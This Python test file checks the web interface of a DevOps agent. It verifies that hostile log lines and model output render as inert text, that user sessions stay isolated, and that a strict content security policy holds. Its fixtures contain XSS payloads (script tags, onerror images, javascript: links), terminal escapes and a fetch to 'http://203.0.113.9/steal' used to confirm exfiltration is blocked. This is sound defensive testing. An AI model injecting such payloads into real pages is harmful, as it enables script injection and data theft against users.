"""What the web page must never do: run markup from tool output, act on terminal escapes, show one
user's session to another, load anything from elsewhere, or put the token in a URL."""

from __future__ import annotations

import re
import tomllib
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx

from api_harness import PROBE_TURNS
from devops_agent.tools.registry import default_registry
from devops_agent.web import CSP, STATIC_DIR

from .web_helpers import HOSTILE_LINE, ROOT, ask, screenshot, session_id, sign_in, wait_run, web_service

HOSTILE_TURNS = [
    {"tool_calls": [{"tool": "tail_log", "args": {"name": "<b>app</b>.log " + HOSTILE_LINE}}]},
    # A model quoting the line verbatim, and adding markup of its own.
    {
        "text": "The log says:\n\n"
        + HOSTILE_LINE
        + "\n\n[a link](javascript:window.__pwned=3) <script>window.__pwned=4</script>\n\n{results}"
    },
]

INERT = """() => ({
  pwned: window.__pwned === undefined ? null : window.__pwned,
  scripts: document.querySelectorAll('#conversation script, #approvals script').length,
  images: document.querySelectorAll('#conversation img').length,
  handlers: [...document.querySelectorAll('#conversation *')].filter(
      e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
  jsLinks: [...document.querySelectorAll('#conversation a')].filter(a => !/^https?:|^mailto:/.test(a.href)).length,
  text: document.getElementById('conversation').textContent,
})"""


def _assert_inert(page: Any) -> str:
    seen = page.evaluate(INERT)
    assert seen["pwned"] is None
    assert seen["scripts"] == 0
    assert seen["images"] == 0
    assert seen["handlers"] == 0
    assert seen["jsLinks"] == 0
    text: str = seen["text"]
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    return text


def test_a_hostile_log_line_renders_as_inert_text(page: Any, tmp_path: Path) -> None:
    with web_service(tmp_path, turns=HOSTILE_TURNS) as svc:
        sign_in(page, svc, "alice")
        ask(page, "what does the log say?")
        run = wait_run(page, "completed")
        text = _assert_inert(page)
        # The markup is shown as the literal text it is, the escapes written out (␛, ␇, \\u202e).
        answer = run.locator(".msg.answer").inner_text()
        assert "<script>window.__pwned=1</script>" in answer
        assert '<img src=x onerror="window.__pwned=2">' in answer
        assert "\u241b[31mRED\u241b[0m" in answer
        assert "\u241b]0;owned\u2407" in answer
        assert "\\u202eevil" in answer
        args = run.locator("details.tool pre.args").text_content()
        assert "<b>app</b>.log" in args
        assert "\\u001b[31mRED" in args  # arguments are shown as JSON: escapes stay escaped
        assert "javascript:" in text  # the link was not made a link; its text stays visible

        # The tool's output was capped for the model: the card says so and offers the full output.
        card = run.locator("details.tool")
        card.locator("summary").click()
        assert card.locator(".truncated").is_visible()
        card.locator("button.show-full").click()
        full = card.locator("pre.full-output")
        page.wait_for_function("el => !el.textContent.startsWith('loading')", arg=full.element_handle())
        assert "request 599 served" in full.inner_text()
        assert "<script>window.__pwned=1</script>" in full.inner_text()
        _assert_inert(page)
        assert page.title() == "DevOps Agent"  # the title escape did nothing


def test_a_report_shows_findings_with_badges_and_evidence_inert(page: Any, tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    lines = [f"2026-11-27T10:0{i}:00Z {HOSTILE_LINE} id={i}" for i in range(6)]
    (logs / "app.log").write_text("\n".join(lines) + "\n")
    with web_service(tmp_path, roots=[logs], registry_=default_registry()) as svc:
        sign_in(page, svc, "alice")
        page.click("#options summary")
        page.select_option("#opt-runbook", "log-errors")
        page.fill("#opt-logs", str(logs / "app.log"))
        ask(page, "errors in app.log")
        run = wait_run(page, "completed")
        report = run.locator("section.report")
        assert report.locator(".verdict").inner_text() == "Problems found"
        finding = report.locator("li.finding").first
        severity = finding.locator(".badge.sev").inner_text()
        assert severity in {"critical", "high", "medium", "low", "info"}
        assert f"sev-{severity}" in (finding.get_attribute("class") or "")
        evidence = finding.locator("blockquote.evidence pre").first.inner_text()
        assert "<script>" in evidence
        assert "\u241b[31m" in evidence
        _assert_inert(page)

        # The finding links to the tool call behind it; the card offers the output the service kept.
        finding.get_by_role("button", name="Show the tool call").click()
        card = run.locator("details.tool").first
        assert card.get_attribute("open") is not None
        plan = run.locator(".msg.plan li").first.inner_text()
        assert plan.startswith("log-errors/errors: logs_errors")
        _assert_inert(page)
        page.click("#options summary")  # fold the options away again
        report.scroll_into_view_if_needed()
        screenshot(page, "web-report")


def test_another_users_session_cannot_be_reached(page: Any, tmp_path: Path) -> None:
    with web_service(tmp_path, turns=PROBE_TURNS) as svc:
        sign_in(page, svc, "alice")
        ask(page, "alice's private question")
        wait_run(page, "completed")
        alices = session_id(page)
        page.click("#signout")

        sign_in(page, svc, "bob")
        assert page.locator("#sessions li").count() == 0
        page.evaluate("(id) => { location.hash = '#/s/' + id; }", alices)
        page.wait_for_selector("#banner:not([hidden])")
        assert "no session" in page.inner_text("#banner")
        assert page.locator("article.run").count() == 0
        assert "alice's private question" not in page.content()
        assert page.evaluate("window.__devopsAgent.state.sessionId") is None

        # Nor over the WebSocket: following alice's run is answered as if it did not exist.
        run_id = svc.store.list_runs(alices)[0].id
        page.evaluate(
            "(id) => window.__devopsAgent.state.socket.send({type: 'subscribe', run_id: id, last_seq: 0})",
            run_id,
        )
        page.wait_for_function("() => document.getElementById('banner').textContent.includes('(subscribe)')")
        assert page.locator("article.run").count() == 0
        assert "alice's private question" not in page.content()


def test_the_page_is_served_with_a_strict_policy(tmp_path: Path) -> None:
    with web_service(tmp_path, turns=[]) as svc, httpx.Client(base_url=svc.url) as c:
        page = c.get("/")
        assert page.status_code == 200
        assert page.headers["content-type"].startswith("text/html")
        csp = page.headers["content-security-policy"]
        assert csp == CSP
        assert "default-src 'none'" in csp
        assert "script-src 'self'" in csp
        assert "unsafe-inline" not in csp
        assert "unsafe-eval" not in csp
        assert "frame-ancestors 'none'" in csp
        assert page.headers["x-content-type-options"] == "nosniff"
        script = c.get("/assets/js/main.js")
        assert script.status_code == 200
        assert "javascript" in script.headers["content-type"]
        assert script.headers["content-security-policy"] == CSP
        # The page is beside the API, never over it: unknown API paths stay problem+json 404s.
        missing = c.get("/v1/nothing-here")
        assert missing.status_code == 404
        assert missing.headers["content-type"].startswith("application/problem+json")
        assert c.get("/assets/../page.py").status_code == 404
        assert c.get("/openapi.json").status_code == 200


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if tag == "script" and not names.get("src"):
            self.problems.append("inline <script>")
        if tag == "style":
            self.problems.append("<style> element")
        for name, value in attrs:
            if name == "style" or name.startswith("on"):
                self.problems.append(f"{name}= attribute on <{tag}>")
            if name in ("src", "href") and value and re.match(r"(https?:)?//", value):
                self.problems.append(f"{name} from another origin: {value}")


def test_the_assets_hold_nothing_the_policy_would_need_to_allow() -> None:
    parser = _Markup()
    parser.feed((STATIC_DIR / "index.html").read_text())
    assert parser.problems == []
    sinks = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function\(")
    for js in sorted((STATIC_DIR / "js").glob("*.js")):
        code = "\n".join(line for line in js.read_text().splitlines() if not line.strip().startswith("//"))
        assert not sinks.search(code), f"{js.name} uses an HTML or code sink"
        # SVG's namespace name (createElementNS, for the evidence chart) is an identifier, not a load
        code = code.replace('"http://www.w3.org/2000/svg"', "")
        assert "http://" not in code
        assert "https://" not in code
    assert "@import" not in (STATIC_DIR / "app.css").read_text()
    assert "url(" not in (STATIC_DIR / "app.css").read_text()


def test_the_browser_enforces_the_policy(page: Any, tmp_path: Path) -> None:
    with web_service(tmp_path, turns=[]) as svc:
        page.goto(svc.url + "/")
        page.wait_for_selector("#signin:not([hidden])")
        violations: list[str] = []
        page.expose_function("__violation", lambda d: violations.append(d))
        page.evaluate(
            "() => document.addEventListener('securitypolicyviolation', e => window.__violation(e.violatedDirective))"
        )
        # Were markup ever inserted by mistake, neither inline script nor a handler would run.
        page.evaluate(
            """() => { const s = document.createElement('script'); s.textContent = 'window.__pwned = 1';
                 document.body.append(s);
                 const i = document.createElement('img'); i.setAttribute('onerror', 'window.__pwned = 2');
                 i.src = 'data:,x'; document.body.append(i); }"""
        )
        page.wait_for_timeout(200)
        assert page.evaluate("window.__pwned === undefined")
        assert any(v.startswith("script-src") for v in violations), violations
        # Nor could it send data to another origin.
        blocked = page.evaluate(
            "() => fetch('http://203.0.113.9/steal').then(() => 'sent', e => 'blocked: ' + e.message)"
        )
        assert blocked.startswith("blocked")
        for _ in range(40):  # the violation report comes after the fetch has failed
            if any(v.startswith("connect-src") for v in violations):
                break
            page.wait_for_timeout(50)
        assert any(v.startswith("connect-src") for v in violations), violations


def test_every_asset_the_page_names_ships_in_the_package() -> None:
    # index.html's /assets/… references and every module's imports resolve to files the package
    # ships (pyproject's package-data globs cover them: the wheel is built from the same patterns).
    index = (STATIC_DIR / "index.html").read_text()
    named = re.findall(r'(?:src|href)="/assets/([^"]+)"', index)
    assert "js/main.js" in named
    for rel in named:
        assert (STATIC_DIR / rel).is_file(), rel
    for js in (STATIC_DIR / "js").glob("*.js"):
        for target in re.findall(r'from "\./([^"]+)"', js.read_text()):
            assert (STATIC_DIR / "js" / target).is_file(), f"{js.name} imports {target}"
    patterns = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]["package-data"]
    shipped = {
        p.relative_to(STATIC_DIR.parent.parent).as_posix()
        for pattern in patterns["devops_agent"]
        for p in (STATIC_DIR.parent.parent).glob(pattern)
    }
    for path in STATIC_DIR.rglob("*"):
        if path.is_file():
            assert path.relative_to(STATIC_DIR.parent.parent).as_posix() in shipped, path


MARKDOWN = """## Cause

The **p99** rose after `deploy 42`; see [the runbook](https://runbooks.example/p99) and
[this](javascript:alert(1)).

| pod | restarts |
|-----|---------:|
| api-1 | 7 |
| <b>api-2</b> | 3 |

```bash
kubectl rollout undo deploy/api <script>x()</script>
```

- first
- second

> quoted <img src=x onerror=alert(1)>
"""


def test_markdown_becomes_structure_never_html(page: Any, tmp_path: Path) -> None:
    with web_service(tmp_path) as svc:
        page.goto(svc.url + "/")
        page.wait_for_selector("#signin:not([hidden])")
        base = {"v": 1, "session_id": "s1", "run_id": "r1", "ts": "2026-11-27T10:00:00Z"}
        page.evaluate(
            "(ev) => window.__devopsAgent.conversation.apply(ev)",
            {**base, "seq": 1, "type": "run_finished", "status": "completed", "output": MARKDOWN},
        )
        md = page.locator("#conversation .md")
        shape = md.evaluate(
            """el => ({
                 h: [...el.querySelectorAll('h4')].map(e => e.textContent),
                 strong: el.querySelector('strong').textContent,
                 code: [...el.querySelectorAll('p code')].map(e => e.textContent),
                 links: [...el.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.rel]),
                 cells: [...el.querySelectorAll('table td')].map(e => e.textContent),
                 heads: [...el.querySelectorAll('table th')].map(e => e.textContent),
                 pre: el.querySelector('pre code').textContent,
                 items: [...el.querySelectorAll('ul li')].map(e => e.textContent),
                 quote: el.querySelector('blockquote').textContent.trim(),
                 elements: [...el.querySelectorAll('*')].map(e => e.tagName.toLowerCase()),
               })"""
        )
        assert shape["h"] == ["Cause"]  # a model's ## sits under the page's own headings
        assert shape["strong"] == "p99"
        assert shape["code"] == ["deploy 42"]
        assert shape["links"] == [["https://runbooks.example/p99", "noopener noreferrer nofollow"]]
        assert shape["heads"] == ["pod", "restarts"]
        assert shape["cells"] == ["api-1", "7", "<b>api-2</b>", "3"]
        assert shape["pre"] == "kubectl rollout undo deploy/api <script>x()</script>"
        assert shape["items"] == ["first", "second"]
        assert shape["quote"] == "quoted <img src=x onerror=alert(1)>"
        assert not {"script", "img", "b", "iframe"} & set(shape["elements"])
        assert "this (javascript:alert(1))" in md.text_content()
